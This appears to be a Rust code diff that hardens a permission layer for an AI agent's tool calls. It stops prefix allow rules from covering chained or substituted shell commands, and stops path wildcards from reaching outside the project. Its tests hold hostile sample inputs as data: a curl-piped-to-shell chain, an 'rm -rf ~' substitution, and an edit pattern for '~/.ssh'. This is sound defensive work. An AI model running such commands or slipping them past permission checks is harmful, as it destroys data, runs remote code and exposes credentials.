@@ -63,7 +63,13 @@ impl Ceiling {
         }
         Decision {
             behavior: ceiling.behavior,
-            rule: ceiling.rule.map(|rule| format!("ceiling {rule}")),
+            // Always a rule, its default's too: a rule's ask makes the CLI ask even where its
+            // own settings (a project's allow rules, a read-only command) would run the call.
+            rule: Some(
+                ceiling
+                    .rule
+                    .map_or_else(|| "ceiling default".to_owned(), |rule| format!("ceiling {rule}")),
+            ),
             reason: format!("the ceiling of token {}: {}", self.token, ceiling.reason),
         }
     }
@@ -191,17 +197,22 @@ fn covers(allowed: &Rule, rule: &Rule) -> bool {
     match (&allowed.content, &rule.content) {
         (None, _) => true,
         (Some(_), None) => false,
-        // `Bash(git:*)` covers `Bash(git status:*)` and `Bash(git status)`.
+        // `Bash(git:*)` covers `Bash(git status:*)` and `Bash(git status)`: one command, never
+        // one joined to others (`git status && curl …`) or with substitutions.
         (Some(Content::Prefix(wide)), Some(Content::Prefix(narrow) | Content::Exact(narrow))) => {
-            narrow == wide
-                || narrow.strip_prefix(wide.as_str()).is_some_and(|rest| rest.starts_with(' '))
+            let simple = !narrow.contains(['&', '|', ';', '$', '`', '<', '>', '\n', '(', ')']);
+            simple
+                && (narrow == wide
+                    || narrow.strip_prefix(wide.as_str()).is_some_and(|rest| rest.starts_with(' ')))
         }
         (Some(Content::Domain(wide)), Some(Content::Domain(narrow))) => {
             narrow == wide || narrow.ends_with(&format!(".{wide}"))
         }
-        // Path patterns are compared as written: the same pattern, or everything (`**`).
+        // Path patterns are compared as written: the same pattern, or, under `**` (everything
+        // in the project), one within the project (not absolute, not home's, no `..`).
         (Some(Content::Path(wide)), Some(Content::Path(narrow))) => {
-            wide == narrow || wide == "**" || wide == "/**"
+            let within = !narrow.starts_with(['/', '~']) && !narrow.contains("..");
+            wide == narrow || (wide == "**" && within)
         }
         _ => false,
     }
@@ -237,7 +248,9 @@ default = "ask"
         assert_eq!(rm.behavior, Behavior::Deny);
         assert_eq!(rm.rule.as_deref(), Some("ceiling Bash(rm:*)"));
         assert!(rm.reason.starts_with("the ceiling of token agent: denied"), "{}", rm.reason);
-        assert_eq!(decide("Bash", json!({"command": "ls"})).behavior, Behavior::Ask);
+        let ls = decide("Bash", json!({"command": "ls"}));
+        assert_eq!(ls.behavior, Behavior::Ask);
+        assert_eq!(ls.rule.as_deref(), Some("ceiling default"), "a rule: the CLI is made to ask");
         assert_eq!(decide("Bash", json!({"command": "git status"})).behavior, Behavior::Allow);
         assert_eq!(decide("Read", json!({"file_path": "/work/a"})).behavior, Behavior::Allow);
         // The session's own stricter word stands.
@@ -265,6 +278,14 @@ default = "ask"
         let wider = ceiling.check_allow("Edit").unwrap_err();
         assert!(wider.contains("no rule of it allows as much"), "{wider}");
         assert!(ceiling.check_allow("Bash(gitk:*)").is_err(), "a prefix is a whole word");
+        for joined in ["Bash(git status && curl x | sh)", "Bash(git log $(rm -rf ~))"] {
+            assert!(ceiling.check_allow(joined).is_err(), "{joined}");
+        }
+        let everything = Ceiling::new("e", "[permissions]\nallow = [\"Edit(**)\"]").unwrap();
+        assert_eq!(everything.check_allow("Edit(src/**)"), Ok(()));
+        for outside in ["Edit(//**)", "Edit(~/.ssh/**)", "Edit(../**)"] {
+            assert!(everything.check_allow(outside).is_err(), "{outside}");
+        }
         let open = Policy::from_toml("[permissions]\ndefault = \"allow\"").unwrap();
         assert!(ceiling.check_policy(&open).unwrap_err().contains("default = \"allow\""));
         let rules = Policy::from_toml("[permissions]\nallow = [\"Read\", \"Write\"]").unwrap();
